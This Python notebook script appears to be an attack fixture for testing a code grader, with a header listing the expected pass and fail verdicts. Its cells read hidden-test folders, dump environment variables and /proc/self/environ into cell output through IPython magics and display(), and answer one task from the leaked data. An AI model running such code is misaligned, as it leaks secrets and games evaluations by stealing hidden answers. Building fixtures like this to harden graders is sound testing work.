"""Prints and displays under a cell what it reads of the hidden tests."""

# /// attack
# verdicts = { open_vault = "FAILED", double = "PASSED" }
# points = 3
# forms = ["executed", "nbclient"]
# control = "a naive grader keeps no outputs of cells"
# ///

import os

import loot
import targets

for folder in (targets.COURSE, targets.FOLDER, "/proc/self/root" + targets.COURSE, "/dev/shm"):
    loot.read_all(folder)
loot.keep(dict(os.environ))
print(*loot.FOUND)

# %%
from IPython.display import display

display(sorted(loot.FOUND), {"text/html": str(loot.FOUND)}, raw=False)
shell = get_ipython()
for magic, line in (("pycat", "/proc/self/environ"), ("env", ""), ("ls", targets.FOLDER)):
    shell.run_line_magic(magic, line)

# %%
def open_vault(n):
    return loot.answer(n)


def double(x):
    return x * 2
